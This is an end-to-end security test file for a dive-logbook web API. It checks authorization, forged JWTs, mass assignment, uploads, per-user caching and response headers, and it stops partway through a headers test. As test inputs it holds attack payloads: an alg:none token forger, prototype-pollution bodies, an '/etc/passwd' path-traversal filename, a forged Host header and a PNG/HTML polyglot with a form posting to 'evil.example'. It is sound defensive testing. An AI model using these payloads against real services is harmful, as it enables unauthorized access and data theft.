import { randomUUID } from 'node:crypto';
import type pg from 'pg';
import type { Test } from 'supertest';
import { JwtService, type JwtSignOptions } from '@nestjs/jwt';
import { CacheKeys, REDIS_CLIENT, type RedisClient, ViewCache } from '@app/cache';
import { LocalDiskStore, StorageService } from '@app/storage';
import { type Diver, signupAndSignin, startApi, type TestApi, uniqueEmail } from './support/api.js';
import { PNG, createLogbook, logbookFields } from './support/fixtures.js';
import { connectDb } from './support/likes-model.js';

/**
 * The security properties the whole API must hold, tried against the real app: who may touch whose data, which tokens are refused, which body fields are refused,
 * how uploads are typed, sign-in brute force, per-user cache entries and response headers. Each test
 * prints what it tried and what got through.
 */

type Res = Awaited<Test>;
type Headers = Record<string, string>;
type Method = 'get' | 'head' | 'post' | 'put' | 'patch' | 'delete';
/** A request that waits for its caller's headers (a token, or none for anonymous). */
type Send = (h?: Headers) => Test;

const SIGNUP = '/api/auths/signup/';
const SIGNIN = '/api/auths/signin/';
const REFRESH = '/api/auths/token/refresh/';
const LOGOUT = '/api/auths/logout/';
const ME = '/api/auths/me/';
const LOGBOOKS = '/api/logbooks/';
const MINE = '/api/logbooks/my_logbooks/';
const PHOTOS = '/api/photo/';
const CLASSIFY = '/api/photo/classify/';

/** Low, so the brute-force test stays short; the pinned default (20) is tested in auth.e2e-spec.ts. */
const MAX_IP_FAILURES = 8;
const LOCAL_IPS = ['127.0.0.1', '::ffff:127.0.0.1'];
/** PNG magic bytes, then a page: a valid image by content, dangerous if ever served as HTML. */
const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><form action="https://evil.example/"><input name="pw"></form>')]);
/** Enough of a WebP for detection by content (RIFF….WEBP). */
const WEBP = Buffer.concat([Buffer.from('RIFF\x1a\0\0\0WEBPVP8 '), Buffer.alloc(14)]);

const bearer = (d: { access: string }): Headers => ({
  Authorization: `Bearer ${d.access}`,
});
const b64url = (v: object) => Buffer.from(JSON.stringify(v)).toString('base64url');
const claimsOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());
const idsOf = (rows: Array<{ id: number }>) => rows.map((r) => r.id).sort();
const path = (url: string) => new URL(url).pathname;

describe('security (e2e)', () => {
  let api: TestApi;
  let db: pg.Client;
  let alice: Diver;
  let bob: Diver;

  beforeAll(async () => {
    // Rotation on, so reuse detection can be tried; small uploads, so size limits cost no bandwidth.
    api = await startApi({
      JWT_REFRESH_ROTATION: 'true',
      UPLOAD_MAX_BYTES: '4096',
      SIGNIN_MAX_FAILURES_IP: String(MAX_IP_FAILURES),
    });
    db = await connectDb();
    [alice, bob] = await Promise.all([signupAndSignin(api, 'alice'), signupAndSignin(api, 'bob')]);
  });
  afterAll(async () => {
    await db?.end();
    await api?.close();
  });

  /** `method url` with a JSON body, if any. */
  const call =
    (method: Method, url: string, body?: object): Send =>
    (h = {}) => {
      const req = api.http()[method](url).set(h);
      return body === undefined ? req : req.send(body);
    };
  /** The same with the body as multipart form fields, as the original client sends, and a PNG in `file`. */
  const multipart =
    (method: Method, url: string, fields: object, file?: string): Send =>
    (h = {}) => {
      let req = api.http()[method](url).set(h);
      for (const [k, v] of Object.entries(fields)) req = req.field(k, String(v));
      return file ? req.attach(file, PNG, `${file}.png`) : req;
    };

  async function presign(d: Diver, filename = 'fish.png') {
    const query = `filename=${encodeURIComponent(filename)}&filetype=image/png`;
    const res = await api.http().get(`${PHOTOS}generate_presigned_url/?${query}`).set(bearer(d)).expect(200);
    const url = new URL(res.body.uploadUrl);
    return {
      path: `${url.pathname}${url.search}`,
      fileUrl: res.body.fileUrl as string,
    };
  }
  const putFile = (uploadPath: string, bytes = PNG) => api.http().put(uploadPath).set('Content-Type', 'image/png').send(bytes);
  const createPhoto = async (d: Diver): Promise<{ id: number; image_url: string }> =>
    (await multipart('post', PHOTOS, { title: 'fish' }, 'image')(bearer(d)).expect(201)).body;

  describe('authorization matrix', () => {
    let logbook: number;
    let bobLogbook: number;
    let comment: number;
    let photo: { id: number; image_url: string };
    let bobPhoto: number;
    let aliceUpload: string;
    let image: string;

    beforeAll(async () => {
      const created = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).expect(201);
      logbook = created.body.id;
      image = path(created.body.dive_image);
      bobLogbook = await createLogbook(api, bob.access);
      comment = (await call('post', `${LOGBOOKS}${logbook}/comments`, { text: 'mine' })(bearer(alice)).expect(201)).body.id;
      photo = await createPhoto(alice);
      bobPhoto = (await createPhoto(bob)).id;
      const upload = await presign(alice);
      await putFile(upload.path).expect(200);
      aliceUpload = upload.fileUrl;
    });

    /** What must not move, read from Postgres (not through a cache that a failed write would not bump). */
    const stored = async () =>
      (
        await db.query(
          `SELECT (SELECT row_to_json(l) FROM logbooks l WHERE id = $1) AS logbook,
                  (SELECT json_agg(c ORDER BY c.id) FROM comments c WHERE logbook_id = $1) AS comments,
                  (SELECT count(*) FROM likes WHERE logbook_id = $1) AS likes,
                  (SELECT json_agg(p ORDER BY p.id) FROM photos p WHERE id = ANY($2::bigint[])) AS photos,
                  (SELECT revoked_at FROM refresh_tokens WHERE jti = $3) AS revoked`,
          [logbook, [photo.id, bobPhoto], claimsOf(alice.refresh).jti],
        )
      ).rows[0];

    it("gives another user and an anonymous caller 0 successes on a user's logbook, comment, photo, upload and token", async () => {
      const before = await stored();
      // Bob's own signed upload URL, re-pointed at Alice's folder: the signature covers the key.
      const repointed = (await presign(bob)).path.replace(`/${bob.id}/`, `/${alice.id}/`);
      const L = `${LOGBOOKS}${logbook}/`;
      const P = `${PHOTOS}${photo.id}/`;
      const taken = logbookFields({ dive_title: 'taken' });
      // [what, status for an anonymous caller, status for Bob, request]. Bob's null: he may (liking,
      // commenting and reading likes are for every signed-in user; his own lists and uploads are his).
      const attempts: Array<[string, number, number | null, Send]> = [
        ['GET my_logbooks', 401, null, call('get', MINE)],
        ['HEAD my_logbooks', 401, null, call('head', MINE)],
        ['PUT logbook (JSON)', 401, 403, call('put', L, taken)],
        ['PUT logbook (multipart)', 401, 403, multipart('put', L, taken)],
        ['PATCH logbook (JSON)', 401, 403, call('patch', L, { feeling: 'x' })],
        ['PATCH logbook (new image)', 401, 403, multipart('patch', L, { feeling: 'x' }, 'dive_image')],
        ['PATCH logbook (no image)', 401, 403, call('patch', L, { dive_image: null })],
        ['DELETE logbook', 401, 403, call('delete', L)],
        ['GET like', 401, null, call('get', `${L}like/`)],
        ['POST like', 401, null, call('post', `${L}like/`)],
        ['DELETE like', 401, null, call('delete', `${L}like/`)],
        ['POST comment', 401, null, call('post', `${L}comments`, { text: 'x' })],
        ['DELETE comment', 401, 403, call('delete', `${L}uncomment/${comment}`)],
        ['DELETE comment via own logbook', 401, 404, call('delete', `${LOGBOOKS}${bobLogbook}/uncomment/${comment}`)],
        ['GET photo', 401, 404, call('get', P)],
        ['HEAD photo', 401, 404, call('head', P)],
        ['PUT photo', 401, 404, call('put', P, { title: 'x' })],
        ['PATCH photo', 401, 404, call('patch', P, { title: 'x' })],
        ['DELETE photo', 401, 404, call('delete', P)],
        ['POST classify', 401, 404, call('post', `${P}classify/`)],
        ['POST batch classify', 401, 404, call('post', CLASSIFY, { photo_ids: [photo.id] })],
        ['POST batch classify (+ own)', 401, 404, call('post', CLASSIFY, { photo_ids: [bobPhoto, photo.id] })],
        ['GET photo list', 401, null, call('get', PHOTOS)],
        ['POST photo from their upload', 401, 400, call('post', PHOTOS, { title: 'x', image_url: aliceUpload })],
        ['POST photo from their photo file', 401, 400, call('post', PHOTOS, { title: 'x', image_url: photo.image_url })],
        ['GET presigned URL', 401, null, call('get', `${PHOTOS}generate_presigned_url/?filename=a.png&filetype=image/png`)],
        ['PUT upload re-pointed at their folder', 403, 403, (h = {}) => putFile(repointed).set(h)],
        ['POST logout with their token', 401, 403, call('post', LOGOUT, { refresh: alice.refresh })],
        ['GET me', 401, null, call('get', ME)],
      ];

      const outcomes: Array<{ what: string; expected: number; res: Res }> = [];
      for (const [what, anonymous, other, send] of attempts) {
        outcomes.push({
          what: `anonymous: ${what}`,
          expected: anonymous,
          res: await send(),
        });
        if (other !== null)
          outcomes.push({
            what: `other user: ${what}`,
            expected: other,
            res: await send(bearer(bob)),
          });
      }
      const count = (status: number) => outcomes.filter((o) => o.res.status === status).length;
      const successes = outcomes.filter((o) => o.res.status < 300).length;
      console.log(
        `authorization matrix: ${outcomes.length} requests by another user/anonymous on another user's logbook, comment, ` +
          `photo, upload and token; ${successes} successes (401: ${count(401)}, 403: ${count(403)}, 404: ${count(404)}, 400: ${count(400)})`,
      );
      const wrong = outcomes.filter((o) => o.res.status !== o.expected);
      expect(
        wrong.map((o) => ({
          what: o.what,
          expected: o.expected,
          got: o.res.status,
          body: o.res.body,
        })),
      ).toEqual([]);
      expect(successes).toBe(0);
      // Every refusal says why (a HEAD has no body), and every 401 names the scheme to use.
      const silent = outcomes.filter((o) => !o.what.includes('HEAD') && !o.res.body.detail && o.res.status !== 400);
      expect(silent.map((o) => o.what)).toEqual([]);
      const unnamed = outcomes.filter((o) => o.res.status === 401 && o.res.headers['www-authenticate'] !== 'Bearer realm="api"');
      expect(unnamed.map((o) => o.what)).toEqual([]);

      // Another user's photo is indistinguishable from one that does not exist.
      const missing = await call('get', `${PHOTOS}999999999999/`)(bearer(bob)).expect(404);
      expect(outcomes.find((o) => o.what === 'other user: GET photo')?.res.body).toEqual(missing.body);

      // Nothing moved: the rows, the like table, the photos' status, the token, the stored files.
      expect(await stored()).toEqual(before);
      for (const file of [image, path(photo.image_url), path(aliceUpload)]) await api.http().get(file).expect(200);

      // The refusals were about whose it is: Bob may remove a comment of his own on Alice's dive.
      const own = await call('post', `${L}comments`, { text: 'his' })(bearer(bob)).expect(201);
      await call('delete', `${L}uncomment/${own.body.id}`)(bearer(bob)).expect(204);
    });

    it('leaves public what the design makes public (logbooks, comments, likes, image files)', async () => {
      const reads = [
        `${LOGBOOKS}${logbook}/`,
        `${LOGBOOKS}${logbook}/comments`,
        `${LOGBOOKS}${alice.id}/friend_logbooks/`,
        `${LOGBOOKS}likes/`,
        image,
        // Files are public at their unguessable URL, like the original's S3 objects; photo records are not.
        path(photo.image_url),
      ];
      for (const url of reads) {
        for (const h of [{}, bearer(bob)]) expect((await api.http().get(url).set(h)).status, url).toBe(200);
      }
      await call('get', `${LOGBOOKS}${logbook}/like/`)(bearer(bob)).expect(200);
      console.log(`authorization matrix: ${reads.length * 2 + 1} public reads allowed by design (logbooks, comments, likes, media)`);
    });
  });

  describe('JWT', () => {
    let jwt: JwtService;
    let gone: Diver;
    let L: string;
    const now = () => Math.floor(Date.now() / 1000);
    const OTHER_KEY = 'another-key-another-key-another-key-another-key';
    const access = (over: object = {}) => ({
      token_type: 'access',
      user_id: alice.id,
      username: 'alice',
      jti: randomUUID(),
      ...over,
    });
    const refresh = (over: object = {}) => ({
      token_type: 'refresh',
      user_id: alice.id,
      jti: randomUUID(),
      fam: randomUUID(),
      ...over,
    });
    /** Signed with the app's own key, issuer and audience unless `options` says otherwise. */
    const sign = (claims: object, options: JwtSignOptions = {}) => jwt.sign(claims, { expiresIn: 300, ...options });
    const unsigned = (token: string) => `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claimsOf(token))}.`;

    beforeAll(async () => {
      jwt = api.app.get(JwtService);
      L = `${LOGBOOKS}${await createLogbook(api, alice.access)}/`;
      // Warm cached views, so bad tokens meet the cache-hit path as well as Nest's guard.
      for (const [url, h] of [[L], [LOGBOOKS], [MINE, bearer(alice)], [PHOTOS, bearer(alice)]] as const) {
        for (const _ of [1, 2]) await call('get', url)(h).expect(200);
      }
      // Deleted before any authenticated request, so no cached copy of the user can answer for it.
      gone = await signupAndSignin(api, 'gone');
      await db.query('DELETE FROM users WHERE id = $1', [gone.id]);
    });

    it('refuses forged, expired, misdirected, wrong-type and orphaned access tokens on every kind of route', async () => {
      const tokens: Array<[string, string]> = [
        ['alg:none', unsigned(alice.access)],
        ['signed with another key', sign(access(), { secret: OTHER_KEY })],
        ['HS512 with our key', sign(access(), { algorithm: 'HS512' })],
        ['expired', jwt.sign(access({ iat: now() - 600, exp: now() - 300 }))],
        ['wrong issuer', sign(access(), { issuer: 'someone-else' })],
        ['wrong audience', sign(access(), { audience: 'another-api' })],
        ['a refresh token', alice.refresh],
        ["a deleted user's", gone.access],
        ['a user that never existed', sign(access({ user_id: 999_999_999_999 }))],
        ['not a JWT', 'not.a.jwt'],
      ];
      const routes: Array<[string, Send]> = [
        ['GET me', call('get', ME)],
        ['GET logbooks (public)', call('get', LOGBOOKS)],
        ['GET logbook (public)', call('get', L)],
        ['GET my_logbooks', call('get', MINE)],
        ['GET photos', call('get', PHOTOS)],
        ['PATCH logbook', call('patch', L, { feeling: 'forged' })],
        ['POST like', call('post', `${L}like/`)],
        ['POST comment', call('post', `${L}comments`, { text: 'forged' })],
        ['POST batch classify', call('post', CLASSIFY, { photo_ids: [1] })],
        ['POST logout', call('post', LOGOUT, { refresh: alice.refresh })],
      ];
      const wrong: string[] = [];
      for (const [kind, token] of tokens) {
        for (const [route, send] of routes) {
          const res = await send({ Authorization: `Bearer ${token}` });
          const refused =
            res.status === 401 &&
            typeof res.body.detail === 'string' &&
            ['token_not_valid', 'user_not_found'].includes(res.body.code) &&
            res.headers['www-authenticate'] === 'Bearer realm="api"';
          if (!refused) wrong.push(`${kind} on ${route}: ${res.status} ${JSON.stringify(res.body)}`);
        }
      }
      const total = tokens.length * routes.length;
      console.log(
        `JWT: ${tokens.length} kinds of bad access token × ${routes.length} routes = ${total} requests, ${wrong.length} not refused with 401`,
      );
      expect(wrong).toEqual([]);
      expect((await call('get', ME)(bearer(gone))).body).toEqual({
        detail: 'User not found',
        code: 'user_not_found',
      });
      // Each case fails for its flaw alone: the same claims, well signed, are accepted.
      await call('get', ME)({ Authorization: `Bearer ${sign(access())}` }).expect(200);
    });

    it('refuses at token/refresh/ anything but a live refresh token it issued itself', async () => {
      const cases: Array<[string, string]> = [
        ['alg:none', unsigned(alice.refresh)],
        ['signed with another key', sign(refresh(), { secret: OTHER_KEY })],
        ['expired', jwt.sign(refresh({ iat: now() - 7200, exp: now() - 3600 }))],
        ['well signed but never issued', sign(refresh())],
        ['an access token', alice.access],
        ["a deleted user's", gone.refresh],
      ];
      for (const [kind, token] of cases) {
        const res = await call('post', REFRESH, { refresh: token })();
        expect({ kind, status: res.status, body: res.body }).toEqual({
          kind,
          status: 401,
          body: {
            detail: 'Token is invalid or expired',
            code: 'token_not_valid',
          },
        });
      }
      console.log(`JWT: ${cases.length} bad refresh tokens → ${cases.length} × 401`);
    });

    it('with rotation on, a token the thief used first still dies when its owner comes back, and only its family', async () => {
      const dan = await signupAndSignin(api, 'dan');
      const exchange = (token: string) => call('post', REFRESH, { refresh: token })();
      const signin = () =>
        call('post', SIGNIN, {
          email: dan.email,
          password: dan.password,
        })().expect(200);
      const laptop = await signin();

      const owner = await exchange(dan.refresh).expect(200);
      const thief = await exchange(owner.body.refresh).expect(200);
      const back = await exchange(owner.body.refresh);
      expect(back.status).toBe(401);
      expect(back.body).toEqual({
        detail: 'Token is blacklisted',
        code: 'token_not_valid',
      });
      expect((await exchange(thief.body.refresh)).status).toBe(401);
      expect((await exchange(dan.refresh)).status).toBe(401);
      // Dan's other sign-in is another family, and other users are untouched.
      await exchange(laptop.body.refresh).expect(200);
      bob.refresh = (await exchange(bob.refresh).expect(200)).body.refresh;

      // Two refreshes racing with one token: one rotation, never two live successors.
      const racer = await signin();
      const race = await Promise.all([exchange(racer.body.refresh), exchange(racer.body.refresh)]);
      expect(race.map((r) => r.status).sort()).toEqual([200, 401]);
      console.log(
        'JWT: refresh rotation: a replay after theft revoked all 3 tokens of its family, 2 other families alive; 1 of 2 racing refreshes won',
      );
    });
  });

  describe('mass assignment', () => {
    it('refuses unknown and server-owned fields on every write DTO with a 400 naming the field, and stores nothing', async () => {
      const logbook = await createLogbook(api, alice.access, {
        feeling: 'before',
      });
      const photo = await createPhoto(alice);
      const email = uniqueEmail('mass');
      const L = `${LOGBOOKS}${logbook}/`;
      const P = `${PHOTOS}${photo.id}/`;
      const rows = async () =>
        (
          await db.query(
            `SELECT (SELECT row_to_json(l) FROM logbooks l WHERE id = $1) AS logbook,
                    (SELECT row_to_json(p) FROM photos p WHERE id = $2) AS photo,
                    (SELECT row_to_json(u) FROM users u WHERE id = $3) AS "user",
                    (SELECT count(*) FROM logbooks WHERE user_id = $3) AS logbooks,
                    (SELECT count(*) FROM photos WHERE user_id = $3) AS photos,
                    (SELECT count(*) FROM comments WHERE logbook_id = $1) AS comments,
                    (SELECT count(*) FROM refresh_tokens WHERE user_id = $3 AND revoked_at IS NOT NULL) AS revoked,
                    (SELECT count(*) FROM users WHERE email = $4) AS signups`,
            [logbook, photo.id, alice.id, email],
          )
        ).rows[0];
      const before = await rows();
      const signup = {
        email,
        username: 'mass',
        password: 'password123',
        country: 'KR',
      };
      const { refresh } = alice;
      // [DTO, the field it must refuse, request]; all sent with Alice's token, which public routes ignore.
      const cases: Array<[string, string, Send]> = [
        ['signup', 'is_superuser', call('post', SIGNUP, { ...signup, is_superuser: true })],
        ['signup', 'id', call('post', SIGNUP, { ...signup, id: 1 })],
        [
          'signin',
          'user_id',
          call('post', SIGNIN, {
            email: alice.email,
            password: alice.password,
            user_id: bob.id,
          }),
        ],
        ['token refresh', 'user_id', call('post', REFRESH, { refresh, user_id: bob.id })],
        ['logout', 'all_sessions', call('post', LOGOUT, { refresh, all_sessions: true })],
        ['logbook create (JSON)', 'likes_count', call('post', LOGBOOKS, logbookFields({ likes_count: 99 }))],
        ['logbook create (multipart)', 'user', multipart('post', LOGBOOKS, logbookFields({ user: bob.id }))],
        ['logbook PUT (JSON)', 'id', call('put', L, logbookFields({ id: 1 }))],
        ['logbook PUT (multipart)', 'likes', multipart('put', L, logbookFields({ likes: bob.id }))],
        ['logbook PATCH (JSON)', 'liked_by_current_user', call('patch', L, { liked_by_current_user: true })],
        ['logbook PATCH (JSON)', 'user', call('patch', L, { feeling: 'x', user: bob.id })],
        ['logbook PATCH (multipart)', 'user_id', multipart('patch', L, { feeling: 'x', user_id: bob.id })],
        ['comment', 'author_id', call('post', `${L}comments`, { text: 'hi', author_id: bob.id })],
        [
          'comment',
          'created_at',
          call('post', `${L}comments`, {
            text: 'hi',
            created_at: '2000-01-01T00:00:00Z',
          }),
        ],
        [
          'photo create (JSON)',
          'status',
          call('post', PHOTOS, {
            title: 't',
            image_url: photo.image_url,
            status: 'done',
          }),
        ],
        ['photo create (multipart)', 'classified_as', multipart('post', PHOTOS, { title: 't', classified_as: 'Shark' }, 'image')],
        ['photo PUT', 'user_id', call('put', P, { title: 't', user_id: bob.id })],
        ['photo PATCH', 'status', call('patch', P, { title: 't', status: 'done' })],
        ['photo PATCH', 'fishial_result', call('patch', P, { title: 't', fishial_result: { results: [] } })],
        ['batch classify', 'user_id', call('post', CLASSIFY, { photo_ids: [photo.id], user_id: bob.id })],
      ];
      const wrong: string[] = [];
      for (const [dto, field, send] of cases) {
        const res = await send(bearer(alice));
        if (res.status !== 400 || !res.body[field]?.length) wrong.push(`${dto} + ${field}: ${res.status} ${JSON.stringify(res.body)}`);
      }
      // Prototype pollution, in JSON and in multipart: refused, never a 500 nor a changed row.
      const raw = (method: Method, url: string, body: string) =>
        api.http()[method](url).set(bearer(alice)).set('Content-Type', 'application/json').send(body);
      const pollution = [
        raw('patch', P, '{"title":"t","__proto__":{"status":"done"}}'),
        raw('patch', L, '{"feeling":"x","constructor":{"prototype":{"user":1}}}'),
        multipart('patch', L, { feeling: 'x', ['__proto__']: 'polluted' })(bearer(alice)),
      ];
      for (const res of await Promise.all(pollution)) {
        if (res.status !== 400) wrong.push(`prototype pollution: ${res.status} ${JSON.stringify(res.body)}`);
      }
      const dtos = new Set(cases.map(([dto]) => dto.replace(/ \(.*\)$/, ''))).size;
      const tried = cases.length + pollution.length;
      console.log(
        `mass assignment: ${cases.length} writes with an unknown or server-owned field over ${dtos} DTOs (JSON and multipart) + ` +
          `${pollution.length} prototype-pollution bodies: ${tried - wrong.length} refused with 400, ${wrong.length} not`,
      );
      expect(wrong).toEqual([]);
      expect(await rows()).toEqual(before);

      // Query parameters are no side door either: ignored, and the server's values stand.
      const viaQuery = await call('post', `${LOGBOOKS}?user=${bob.id}&likes_count=5&id=1`, logbookFields())(bearer(alice)).expect(201);
      expect(viaQuery.body).toMatchObject({
        user: alice.id,
        likes_count: 0,
        likes: [],
      });
      const renamed = await call('patch', `${P}?status=done&user_id=${bob.id}`, { title: 'renamed' })(bearer(alice)).expect(200);
      expect(renamed.body).toMatchObject({
        title: 'renamed',
        status: null,
        classified_as: null,
      });
    });
  });

  // Already covered, not repeated here: logbooks.e2e-spec.ts (a non-image named .png → 400, an oversize
  // dive_image → 413, a file in an undeclared field → 400, an anonymous upload refused before the body
  // is read) and photos.e2e-spec.ts (a non-image photo → 400, the presign type allow-list, a raw image
  // to any other route → 415, forged, tampered, wrong-type and reused signed URLs → 403, spoofed
  // content on a signed PUT → 400, an oversize signed PUT → 413).
  describe('uploads', () => {
    it('stores and serves a presigned upload as the signed type, whatever the client called the file', async () => {
      const upload = await presign(alice, 'invoice.html');
      expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[0-9a-f]{32}_invoice\\.png$`));
      await putFile(upload.path, POLYGLOT).expect(200);
      const served = await api.http().get(path(upload.fileUrl)).buffer(true).expect(200);
      expect(served.headers['content-type']).toBe('image/png');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['content-security-policy']).toContain('sandbox');
    });

    it("keeps a file name from climbing out of the caller's upload folder", async () => {
      const upload = await presign(alice, `../../${bob.id}/../../../etc/passwd.png`);
      // One segment of safe characters in the caller's folder ("a_.._b" is a name, not a step up).
      expect(upload.path).toMatch(new RegExp(`^/api/uploads/${alice.id}/[0-9a-f]{32}_[A-Za-z0-9_.-]+\\?`));
      await putFile(upload.path).expect(200);
      expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[^/]+$`));
      await api.http().get(path(upload.fileUrl)).expect(200);
    });

    it('refuses a signed upload URL past its expiry before reading the body', async () => {
      // A URL our own key signed, already an hour stale.
      const stale = new LocalDiskStore({
        ...api.app.get(StorageService).env,
        UPLOAD_URL_TTL_SECONDS: -3600,
      });
      const key = `uploads/${alice.id}/${randomUUID().replaceAll('-', '')}_late.png`;
      const url = new URL(await stale.presignPut('http://x', key, 'image/png'));
      const res = await putFile(`${url.pathname}${url.search}`);
      expect(res.status).toBe(403);
      expect(res.body).toEqual({ detail: 'Upload URL invalid or expired.' });
      await api.http().get(`/media/${key}`).expect(404);
    });

    it('takes only what Fishial reads as a photo, one file per field, within the size limit; nothing stored otherwise', async () => {
      const count = async (table: 'photos' | 'logbooks') =>
        Number((await db.query(`SELECT count(*) FROM ${table} WHERE user_id = $1`, [alice.id])).rows[0].count);
      const before = {
        photos: await count('photos'),
        logbooks: await count('logbooks'),
      };
      const photo = () => api.http().post(PHOTOS).set(bearer(alice)).field('title', 't');
      // WebP is a fine dive image but not a Fishial type.
      const webp = await photo().attach('image', WEBP, 'fish.png');
      const twice = await photo().attach('image', PNG, 'a.png').attach('image', PNG, 'b.png');
      const big = await photo().attach('image', Buffer.concat([PNG, Buffer.alloc(8_000)]), 'big.png');
      const doubled = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).attach('dive_image', PNG, 'b.png');
      expect([webp, twice, big, doubled].map((r) => r.status)).toEqual([400, 400, 413, 400]);
      expect([webp.body.image, twice.body.image, big.body.detail, doubled.body.dive_image].every((m) => m?.length > 0)).toBe(true);
      expect({
        photos: await count('photos'),
        logbooks: await count('logbooks'),
      }).toEqual(before);
      // The same WebP is a valid dive image: the photo refusal above was about the type alone.
      await multipart('post', LOGBOOKS, logbookFields())(bearer(alice)).attach('dive_image', WEBP, 'dive.webp').expect(201);
      console.log(
        'uploads: 7 misnamed, traversing, stale, off-type, doubled or oversize uploads refused or neutralised, 0 stored by a refusal',
      );
    });
  });

  describe('per-user cache entries', () => {
    it('never serves one user what another sees, on a miss, on a hit, and under concurrent misses', async () => {
      const [carol, dan] = await Promise.all([signupAndSignin(api, 'carol'), signupAndSignin(api, 'dan')]);
      // Far in the future, so it heads the feed whatever else this run's database holds.
      const shared = await createLogbook(api, carol.access, {
        dive_date: '2100-01-01',
      });
      const carolOwn = [shared, await createLogbook(api, carol.access, { dive_date: '2020-01-01' })].sort();
      const danOwn = [await createLogbook(api, dan.access, { dive_date: '2020-01-02' })];
      const carolPhotos = [(await createPhoto(carol)).id, (await createPhoto(carol)).id].sort();
      const danPhotos = [(await createPhoto(dan)).id];
      // Dan likes Carol's dive, written as the consumer would: commit, then bump the views generation.
      await db.query('INSERT INTO likes (logbook_id, user_id, liked, version) VALUES ($1, $2, true, 1)', [shared, dan.id]);
      await db.query('UPDATE logbooks SET likes_count = likes_count + 1 WHERE id = $1', [shared]);
      await api.app.get(ViewCache).bump('logbooks');

      const viewers: Array<[string, Headers, number]> = [
        ['carol', bearer(carol), carol.id],
        ['dan', bearer(dan), dan.id],
        ['anonymous', {}, 0],
      ];
      const liked = (viewer: number) => ({
        liked_by_current_user: viewer === dan.id,
      });
      const find = (rows: Array<{ id: number }>) => rows.find((r) => r.id === shared);
      // [view, URL, private (no anonymous), what the viewer with this id must see].
      const views: Array<[string, string, boolean, (viewer: number, res: Res) => void]> = [
        ['logbook detail', `${LOGBOOKS}${shared}/`, false, (v, res) => expect(res.body).toMatchObject({ likes: [dan.id], ...liked(v) })],
        ['logbook feed', `${LOGBOOKS}?page_size=100`, false, (v, res) => expect(find(res.body.results)).toMatchObject(liked(v))],
        [
          'friend_logbooks',
          `${LOGBOOKS}${carol.id}/friend_logbooks/`,
          false,
          (v, res) => {
            expect(idsOf(res.body)).toEqual(carolOwn);
            expect(find(res.body)).toMatchObject(liked(v));
          },
        ],
        ['my_logbooks', MINE, true, (v, res) => expect(idsOf(res.body)).toEqual(v === carol.id ? carolOwn : danOwn)],
        ['photo list', PHOTOS, true, (v, res) => expect(idsOf(res.body.results)).toEqual(v === carol.id ? carolPhotos : danPhotos)],
        [
          'photo detail',
          `${PHOTOS}${carolPhotos[0]}/`,
          true,
          (v, res) => expect([res.status, res.body.id]).toEqual(v === carol.id ? [200, carolPhotos[0]] : [404, undefined]),
        ],
      ];
      let requests = 0;
      const etags = new Map<string, string | undefined>();
      for (const round of ['MISS', 'HIT']) {
        for (const [name, url, isPrivate, check] of views) {
          for (const [who, h, id] of viewers) {
            if (isPrivate && id === 0) continue;
            const res = await api.http().get(url).set(h);
            requests++;
            check(id, res);
            // Each viewer's first request misses its own entry, never hits someone else's.
            if (res.status === 200) expect(res.headers['x-cache'], `${round} ${name} as ${who}`).toBe(round);
            if (round === 'MISS') etags.set(`${name}/${who}`, res.headers.etag);
            else expect(res.headers.etag).toBe(etags.get(`${name}/${who}`));
          }
        }
      }

      // Concurrent cold misses of the same views by different users.
      await api.app.get(ViewCache).bump('logbooks');
      const burst = views.flatMap(([, url, isPrivate, check]) =>
        viewers
          .filter(([, , id]) => !isPrivate || id !== 0)
          .flatMap(([, h, id]) => [1, 2].map(async () => check(id, await api.http().get(url).set(h)))),
      );
      await Promise.all(burst);
      requests += burst.length;

      // A conditional request with another user's ETag gets the caller's own body, not a 304.
      const carolMine = await call('get', MINE)(bearer(carol)).expect(200);
      const danMine = await call('get', MINE)(bearer(dan)).set('If-None-Match', carolMine.headers.etag).expect(200);
      expect(idsOf(danMine.body)).toEqual(danOwn);
      await call('get', MINE)(bearer(carol)).set('If-None-Match', carolMine.headers.etag).expect(304);
      // A forged Host only ever poisons the forger's own entry.
      const forged = await call('get', `${LOGBOOKS}?page_size=1`)({ Host: 'evil.example' }).expect(200);
      expect(forged.body.next).toMatch(/^http:\/\/evil\.example\//);
      const honest = await call('get', `${LOGBOOKS}?page_size=1`)().expect(200);
      expect(honest.body.next).toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);
      requests += 5;
      console.log(
        `cache: ${views.length} per-user views × 3 viewers (miss, hit, concurrent misses, foreign ETag, forged Host): ` +
          `${requests} requests, 0 cross-user bodies`,
      );
    });
  });

  describe('security headers', () => {
    it('sends the baseline headers on API answers, errors, docs and media files', async () => {
      const logbook = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).expect(201);
      const answers: Array<[string, Send, number]> = [
        ['JSON (cache miss)', call('get', `${LOGBOOKS}${logbook.body.id}/`), 200],
        ['JSON (cache hit)', call('get', `${LOGBOOKS}${logbook.body.id}/`), 200],
        ['JSON (me)', (h = {}) => call('get', ME)(bearer(alice)).set(h), 200],
        ['401', call('get', ME), 401],
        ['400', call('post', SIGNUP, {}), 400],
        ['404 (no route)', call('get', '/api/nothing-here/'), 404],
        ['API docs', call('get', '/api/docs'), 200],
        ['media file', call('get', path(logbook.body.dive_image)), 200],
      ];
      const missing: string[] = [];
      const seen = new Map<string, Res>();
      for (const [what, send, status] of answers) {
        const res = await send();
        seen.set(what, res);
        const h = res.headers;
        const csp = String(h['content-security-policy'] ?? '');
        if (res.status !== status) missing.push(`${what}: status ${res.status}`);
        if (h['x-content-type-options'] !== 'nosniff') missing.push(`${what}: nosniff`);
        if (h['x-frame-options'] !== 'DENY' || !csp.includes("frame-ancestors 'none'")) missing.push(`${what}: framing`);
        if (h['referrer-policy'] !== 'no-referrer') missing.push(`${what}: referrer-policy`);
        if (h['x-powered-by'] !== undefined || h.server !== undefined) missing.push(`${what}: reveals its stack`);
        // A JSON answer is never a document: nothing may load or run in it.
        if (what !== 'API docs' && !csp.includes("default-src 'none'")) missing.push(`${what}: default-src 'none'`);
      }
      const media = seen.get('media file')!.headers;
